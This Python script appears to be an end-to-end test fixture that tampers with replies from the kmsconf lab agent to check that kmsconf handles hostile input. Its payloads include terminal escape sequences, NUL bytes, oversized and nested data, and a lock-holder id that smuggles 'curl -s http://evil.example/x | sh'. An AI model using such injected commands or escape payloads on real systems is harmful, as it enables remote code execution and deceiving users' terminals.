# A man in the middle between kmsconf and `kmsconf lab agent`: rewrites the agent's answers
# as `KMSCONF_TAMPER` says (see tests/e2e/hostile.rs), passing everything else through.
import base64
import json
import os
import subprocess
import sys

MODE = os.environ.get("KMSCONF_TAMPER", "")
KEY = os.environ.get("KMSCONF_TAMPER_KEY", "")
HOLDER = {"id": "0123456789abcdef", "pid": 7, "machine": "ci01",
          "started": "2026-01-01T00:00:00Z", "operation": "apply"}


def keyed(answer):
    products = answer.get("SoftwareLicensingProduct") or []
    if isinstance(products, dict):
        products = [products]
    return [p for p in products if p.get("PartialProductKey")]


def discovery(answer):
    if MODE == "long-partial-key":
        for p in keyed(answer):
            p["PartialProductKey"] = "A" * 70000
    elif MODE == "names":
        answer["ComputerName"] = "KMS\x1b]0;owned\x07\r\n0 changes\x1b[2J"
        answer.setdefault("OperatingSystem", {})["Caption"] = (
            "Windows \x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\\u009b31m")
    elif MODE == "iid":
        for p in keyed(answer):
            p["OfflineInstallationId"] = "@octocat `x` http://evil.example"
    elif MODE == "clock":
        answer.setdefault("Clock", {})["Utc"] = "yesterday"
    elif MODE == "nul":
        answer["ComputerName"] = "KMS\x00\ufffd01"
    elif MODE == "count":
        for p in keyed(answer):
            p["KeyManagementServiceCurrentCount"] = "many"


def die(message):
    sys.stderr.write(message)
    sys.stderr.flush()
    agent.kill()
    sys.exit(1)


def quote_key():
    sys.stderr.write("WARNING: \x1b[2Jinstalled %s\n" % KEY)
    sys.stderr.flush()


def result(body, count):
    """The `count`th result answer of the session, as the mode tells."""
    if MODE == "quote-then-die":
        if count == 1:
            quote_key()
        else:
            die("ERROR: the session is lost\n")
    elif MODE == "die-at-unlock" and count == 1:
        quote_key()
    elif MODE == "quote-other-key" and count == 1:
        body.update(Ok=False, Answer=None, HResult="0xC004F050",
                    Message="cannot install %s" % KEY)


def lock(answer):
    holder = dict(HOLDER)
    if MODE == "locked-hostile":
        holder["id"] = "8f0c1d2e; curl -s http://evil.example/x | sh #"
    answer["Acquired"] = False
    answer["Holder"] = json.dumps(holder)


# the agent reads kmsconf's requests (this process's standard input) and answers through here
agent = subprocess.Popen(
    [os.environ["KMSCONF_BIN"], "lab", "agent", sys.argv[1]],
    stdout=subprocess.PIPE, text=True)
results = 0
for line in iter(agent.stdout.readline, ""):
    if line.startswith("KMSCONF:"):
        _, kind, data = line.rstrip("\n").split(":", 2)
        if MODE == "die-quoting-key" and kind == "result":
            die("ERROR: \x1b]0;owned\x07cannot install %s\r\n" % KEY)
        if MODE == "die-at-unlock" and kind == "unlock":
            die("ERROR: the session is lost\n")
        body = json.loads(base64.b64decode(data))
        if kind == "result":
            results += 1
            result(body, results)
        answer = body.get("Answer")
        if kind == "discovery" and isinstance(answer, dict):
            discovery(answer)
        if kind == "lock" and MODE.startswith("locked") and isinstance(answer, dict):
            lock(answer)
        raw = json.dumps(body).encode()
        if kind == "discovery" and MODE == "nested":
            raw = b'{"Id":%d,"Ok":true,"Answer":%s%s}' % (body["Id"], b"[" * 200000, b"]" * 200000)
        elif kind == "discovery" and MODE == "binary":
            raw = raw.replace(b'"ComputerName": "', b'"ComputerName": "\xff\xfe\x00', 1)
        elif kind == "discovery" and MODE == "nul":
            # noise of the host's own before the answer: not UTF-8, with a NUL
            sys.stdout.flush()
            sys.stdout.buffer.write(b"\xff\xfe\x00 noise \x1b[2J\n")
            sys.stdout.buffer.flush()
        encoded = base64.b64encode(raw).decode()
        line = "KMSCONF:%s:%s\n" % (kind, encoded)
    sys.stdout.write(line)
    sys.stdout.flush()
sys.exit(agent.wait())
